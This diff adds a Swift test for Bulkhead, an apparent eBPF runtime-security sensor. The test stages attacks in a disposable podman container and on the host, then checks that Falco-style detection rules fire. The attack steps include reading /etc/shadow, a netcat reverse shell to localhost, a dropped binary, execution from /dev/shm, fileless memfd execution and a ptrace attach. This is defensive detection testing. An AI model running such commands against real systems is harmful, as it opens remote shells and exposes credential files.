@@ -1,0 +1,227 @@
+import BulkheadTesting
+import Foundation
+import Testing
+
+/// The eBPF sensor on the real kernel: `bulkhead runtime watch` runs with the upstream Falco
+/// rules (stable + sandbox, unmodified from the corpus) and Bulkhead's shipped rules while this
+/// test performs real attacks — in a real podman container (runc, overlay storage) and on the
+/// host — and then checks each expected alert by rule name and key fields, container context
+/// included. Needs root, BTF, podman, runc and busybox-static: without them the tests are
+/// skipped with the reason printed on stderr, and under CI (CI=true) they fail instead.
+@Suite("runtime watch: eBPF sensor scenarios", .serialized)
+struct SensorScenarioTests {
+    static let missing: String? = {
+        var why: [String] = []
+        if geteuid() != 0 { why.append("not root") }
+        if access("/sys/kernel/btf/vmlinux", R_OK) != 0 { why.append("no kernel BTF") }
+        for tool in ["podman", "runc"] where which(tool) == nil { why.append("no \(tool) on PATH") }
+        if access("/bin/busybox", X_OK) != 0 { why.append("no /bin/busybox (busybox-static)") }
+        if CLITests.binary == nil { why.append("bulkhead not built") }
+        guard !why.isEmpty else { return nil }
+        let reason = "eBPF sensor scenario tests NOT RUN: " + why.joined(separator: ", ")
+        FileHandle.standardError.write(Data("\n*** \(reason) ***\n\n".utf8))
+        return reason
+    }()
+
+    static var inCI: Bool { ProcessInfo.processInfo.environment["CI"] != nil }
+
+    static func which(_ tool: String) -> String? {
+        for dir in (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin").split(separator: ":") {
+            let p = "\(dir)/\(tool)"
+            if access(p, X_OK) == 0 { return p }
+        }
+        return nil
+    }
+
+    /// Starts a program with stdin from /dev/null and stdout/stderr into `log` (posix_spawn and
+    /// waitpid: Foundation's Process can miss the exit of a child whose daemons — conmon —
+    /// inherit its descriptors).
+    static func spawn(_ argv: [String], log: URL, cwd: URL) throws -> pid_t {
+        var actions: posix_spawn_file_actions_t = posix_spawn_file_actions_t()
+        posix_spawn_file_actions_init(&actions)
+        defer { posix_spawn_file_actions_destroy(&actions) }
+        posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0)
+        posix_spawn_file_actions_addopen(&actions, 1, log.path, O_WRONLY | O_CREAT | O_APPEND, 0o644)
+        posix_spawn_file_actions_adddup2(&actions, 1, 2)
+        var attr = posix_spawnattr_t()
+        posix_spawnattr_init(&attr)
+        defer { posix_spawnattr_destroy(&attr) }
+        // Default SIGINT/SIGTERM handling in the child whatever this process ignores.
+        var defaults = sigset_t()
+        sigemptyset(&defaults)
+        sigaddset(&defaults, SIGINT)
+        sigaddset(&defaults, SIGTERM)
+        posix_spawnattr_setsigdefault(&attr, &defaults)
+        var empty = sigset_t()
+        sigemptyset(&empty)
+        posix_spawnattr_setsigmask(&attr, &empty)
+        posix_spawnattr_setflags(&attr, Int16(POSIX_SPAWN_SETSIGDEF | POSIX_SPAWN_SETSIGMASK))
+        let cargs = argv.map { strdup($0) } + [nil]
+        defer { for a in cargs { free(a) } }
+        var pid: pid_t = 0
+        let rc = posix_spawn(&pid, argv[0], &actions, &attr, cargs, environ)
+        guard rc == 0 else { throw POSIXError(POSIXErrorCode(rawValue: rc) ?? .EINVAL) }
+        return pid
+    }
+
+    static func wait(_ pid: pid_t) -> Int32 {
+        var status: Int32 = 0
+        while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
+        return (status & 0x7f) == 0 ? (status >> 8) & 0xff : 128 + (status & 0x7f)
+    }
+
+    /// Runs a shell command, returning its status and output.
+    @discardableResult
+    static func sh(_ command: String, in dir: URL) throws -> (status: Int32, output: String) {
+        let log = dir.appendingPathComponent("cmd-\(UUID().uuidString).log")
+        let status = wait(try spawn(["/bin/sh", "-c", "cd \"\(dir.path)\" && " + command], log: log, cwd: dir))
+        return (status, (try? String(contentsOf: log, encoding: .utf8)) ?? "")
+    }
+
+    struct Alert {
+        var rule: String
+        var output: String
+        var fields: [String: Any]
+        func string(_ k: String) -> String? { fields[k] as? String }
+    }
+
+    @Test("podman and host attacks raise the upstream Falco rules with container id, name and image")
+    func scenarios() throws {
+        if let missing = Self.missing {
+            if Self.inCI { Issue.record(Comment(rawValue: missing)) }
+            return
+        }
+        let dir = URL(fileURLWithPath: NSTemporaryDirectory()).appendingPathComponent("bh-sensor-\(UUID().uuidString.prefix(8))")
+        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
+        let name = "bh-scn-\(UUID().uuidString.prefix(8).lowercased())"
+        let podman = "podman --root \(dir.path)/root --runroot \(dir.path)/run --cgroup-manager=cgroupfs --storage-driver=overlay --events-backend=file --runtime runc"
+        let limits = "--network none --ulimit nofile=1024:1024 --ulimit nproc=1024:1024"
+        defer {
+            _ = try? Self.sh("\(podman) rm -f -t 0 \(name); \(podman) system reset -f; rm -rf /dev/shm/bh-scn-*", in: dir)
+            try? FileManager.default.removeItem(at: dir)
+        }
+        // A busybox image: the shell and tools are applets, the rest comes from the test.
+        let setup = """
+            set -e
+            mkdir -p rootfs/bin rootfs/etc rootfs/tmp
+            cp /bin/busybox rootfs/bin/busybox
+            for a in sh cat nc cp sleep true; do ln -s busybox rootfs/bin/$a; done
+            printf 'root:x:0:0:root:/root:/bin/sh\\n' > rootfs/etc/passwd
+            printf 'root:x:0:\\n' > rootfs/etc/group
+            printf 'root:*:19000:0:99999:7:::\\n' > rootfs/etc/shadow
+            tar -C rootfs -cf rootfs.tar .
+            \(podman) import -q rootfs.tar localhost/bh-scenario:1
+            \(podman) run -d --name \(name) \(limits) localhost/bh-scenario:1 /bin/sleep 300
+            """
+        let s = try Self.sh(setup, in: dir)
+        try #require(s.status == 0, "podman setup failed: \(s.output)")
+        let containerID = try Self.sh("\(podman) inspect --format '{{.Id}}' \(name)", in: dir).output
+            .trimmingCharacters(in: .whitespacesAndNewlines)
+        try #require(containerID.count == 64, "no container id: \(containerID)")
+
+        // The sensor: upstream rules unmodified, then Bulkhead's own.
+        let rules = Corpus.url("falco/rules")
+        let alerts = dir.appendingPathComponent("alerts.jsonl")
+        let ready = dir.appendingPathComponent("ready")
+        let stats = dir.appendingPathComponent("stats.json")
+        let sensorLog = dir.appendingPathComponent("sensor.log")
+        let sensor = try Self.spawn([CLITests.binary!.path, "runtime", "watch",
+                                     "--rules", rules.appendingPathComponent("falco_rules.yaml").path,
+                                     "--rules", rules.appendingPathComponent("falco-sandbox_rules.yaml").path, "--with-default-rules",
+                                     "--rule-matching", "all", "--quiet", "--alerts-file", alerts.path, "--ready-file", ready.path,
+                                     "--stats-file", stats.path, "--container-storage", "\(dir.path)/root", "--duration", "120"],
+                                    log: sensorLog, cwd: dir)
+        var sensorRunning = true
+        defer { if sensorRunning { kill(sensor, SIGKILL); _ = Self.wait(sensor) } }
+        var waited = 0
+        while !FileManager.default.fileExists(atPath: ready.path), kill(sensor, 0) == 0, waited < 300 {
+            usleep(100_000)
+            waited += 1
+        }
+        try #require(FileManager.default.fileExists(atPath: ready.path),
+                     "sensor did not start: \((try? String(contentsOf: sensorLog, encoding: .utf8)) ?? "")")
+
+        // The attacks.
+        let exec = "\(podman) exec \(name)"
+        let steps = [
+            "\(podman) exec -t \(name) /bin/sh -c 'exit 0'",                       // shell with a terminal
+            "\(exec) /bin/cat /etc/shadow",                                         // credential read
+            "\(exec) /bin/sh -c 'echo x > /etc/bh-scenario'",                       // write below /etc
+            "\(exec) /bin/nc 127.0.0.1 9 -e /bin/sh || true",                       // reverse shell + outbound connection
+            "\(podman) exec -d \(name) /bin/nc -l -p 8080 && sleep 1",              // listener
+            "\(exec) /bin/cp /bin/busybox /tmp/dropped && \(exec) /tmp/dropped true || true",   // dropped binary
+            "cp /bin/true /dev/shm/\(name) && /dev/shm/\(name)",                    // execution from /dev/shm (host)
+            """
+            python3 -c '
+            import ctypes, os, time
+            fd = os.memfd_create("bh-scn")
+            os.write(fd, open("/bin/true", "rb").read())
+            pid = os.fork()
+            if pid == 0:
+                os.execv("/proc/self/fd/%d" % fd, ["payload"])
+            os.waitpid(pid, 0)
+            libc = ctypes.CDLL(None, use_errno=True)
+            child = os.fork()
+            if child == 0:
+                time.sleep(2)
+                os._exit(0)
+            libc.ptrace(16, child, None, None)
+            os.kill(child, 9)
+            os.waitpid(child, 0)
+            '
+            """,                                                                    // fileless exec, ptrace attach
+        ]
+        for step in steps {
+            let r = try Self.sh(step, in: dir)
+            if r.status != 0 { Issue.record("step failed (\(r.status)): \(step)\n\(r.output)") }
+        }
+        sleep(2)
+        kill(sensor, SIGINT)
+        let exit = Self.wait(sensor)
+        sensorRunning = false
+        let log = (try? String(contentsOf: sensorLog, encoding: .utf8)) ?? ""
+        #expect(exit == 0, "sensor exit \(exit): \(log)")
+
+        let parsed: [Alert] = ((try? String(contentsOf: alerts, encoding: .utf8)) ?? "").split(separator: "\n").compactMap { line in
+            guard let o = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any] else { return nil }
+            return Alert(rule: o["rule"] as? String ?? "", output: o["output"] as? String ?? "",
+                         fields: o["output_fields"] as? [String: Any] ?? [:])
+        }
+        func find(_ rule: String, _ match: (Alert) -> Bool = { _ in true }) -> Alert? {
+            parsed.first { $0.rule == rule && match($0) }
+        }
+        let short = String(containerID.prefix(12))
+        func inContainer(_ a: Alert) -> Bool { a.string("container.id") == short }
+        let summary = parsed.map { "\($0.rule): \($0.output.prefix(160))" }.joined(separator: "\n")
+
+        // Upstream stable rules, in the container, with the container's id, name and image.
+        for rule in ["Terminal shell in container", "Read sensitive file untrusted", "Netcat Remote Code Execution in Container",
+                     "Drop and execute new binary in container"] {
+            let a = find(rule, inContainer)
+            #expect(a != nil, "no '\(rule)' alert for container \(short); alerts:\n\(summary)")
+            if let a {
+                #expect(a.string("container.name") == name, "\(rule): \(a.fields)")
+                #expect(a.string("container.image") == "localhost/bh-scenario:1", "\(rule): \(a.fields)")
+                #expect(a.output.contains("container_id=\(short) container_name=\(name)"), "\(a.output)")
+            }
+        }
+        #expect(find("Terminal shell in container", inContainer)?.string("proc.name") == "sh")
+        #expect(find("Read sensitive file untrusted", inContainer)?.string("fd.name") == "/etc/shadow")
+        #expect(find("Drop and execute new binary in container", inContainer)?.string("proc.exepath") == "/tmp/dropped")
+        // The sandbox rule for writes below /etc.
+        #expect(find("Write below etc") { inContainer($0) && $0.string("fd.name") == "/etc/bh-scenario" } != nil, "\(summary)")
+        // Bulkhead's rules for what upstream has no stable rule for.
+        #expect(find("Outbound connection by a network tool") { inContainer($0) && $0.string("fd.sip") == "127.0.0.1" } != nil, "\(summary)")
+        #expect(find("Listening socket opened in a container") { inContainer($0) && ($0.string("fd.name") ?? "").hasSuffix(":8080") } != nil, "\(summary)")
+        // Host attacks: upstream stable rules.
+        #expect(find("Execution from /dev/shm") { ($0.string("proc.exepath") ?? "").hasPrefix("/dev/shm/bh-scn-") } != nil, "\(summary)")
+        #expect(find("Fileless execution via memfd_create") { $0.string("container.id") == "host" } != nil, "\(summary)")
+        #expect(find("PTRACE attached to process") != nil, "\(summary)")
+
+        // Counters: events arrived, nothing was lost.
+        let statsText = (try? String(contentsOf: stats, encoding: .utf8)) ?? ""
+        let counters = try #require(try JSONSerialization.jsonObject(with: Data(statsText.utf8)) as? [String: Any], "no stats: \(log)")
+        #expect((counters["events"] as? Int ?? 0) > 100)
+        #expect(counters["ring_drops"] as? Int == 0)
+    }
+}
